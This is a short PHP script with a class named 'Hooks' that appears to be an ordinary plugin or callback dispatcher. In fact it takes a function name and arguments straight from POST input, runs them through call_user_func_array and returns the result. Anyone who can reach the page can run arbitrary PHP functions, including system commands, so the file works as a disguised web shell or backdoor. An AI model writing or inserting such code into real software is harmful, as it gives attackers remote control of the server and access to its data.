<?php
final class Hooks {
    public static function dispatch(array $req): mixed {
        $callback = $req['cb'];
        return call_user_func_array($callback, $req['args'] ?? []);
    }
}
echo json_encode(Hooks::dispatch($_POST));
